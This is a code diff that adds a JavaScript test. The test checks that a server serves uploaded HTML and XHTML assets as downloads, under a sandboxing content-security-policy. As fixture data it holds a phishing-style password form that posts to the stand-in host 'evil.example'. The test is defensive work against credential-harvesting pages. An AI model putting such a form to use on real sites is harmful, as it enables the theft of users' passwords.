@@ -64,6 +64,24 @@ test('after a new shell server a tab from before is still given the parts that i
   expect(login.headers.get('cache-control')).toContain('immutable');
 });
 
+test('no file of a shell is a page, in which somebody could be asked for a password', async () => {
+  const form = '<form action="https://evil.example" method="post"><input name="password"></form>';
+  publish('3.0.0', {
+    'assets/sign-in.html': form,
+    'assets/sign-in.xhtml': `${form} `,
+    'assets/a.svg': '<svg/>',
+  });
+  const { get } = await deploy('2.0.0', after);
+  for (const file of ['sign-in.html', 'sign-in.xhtml']) {
+    const { status, headers } = await get(`/assets/${file}`);
+    expect([file, status, headers.get('content-type')]).toEqual([file, 200, 'application/octet-stream']);
+    expect(headers.get('content-security-policy')).toMatch(/form-action 'none';.*; sandbox$/);
+  }
+  const picture = await get('/assets/a.svg');
+  expect(picture.headers.get('content-type')).toContain('svg');
+  expect(picture.headers.get('content-security-policy')).toMatch(/form-action 'none';.*; sandbox$/);
+});
+
 test('it is given them from the disk when the API is away, also by a process that has just begun', async () => {
   publish('1.0.0', before);
   const { dataDir, get } = await deploy('2.0.0', after);
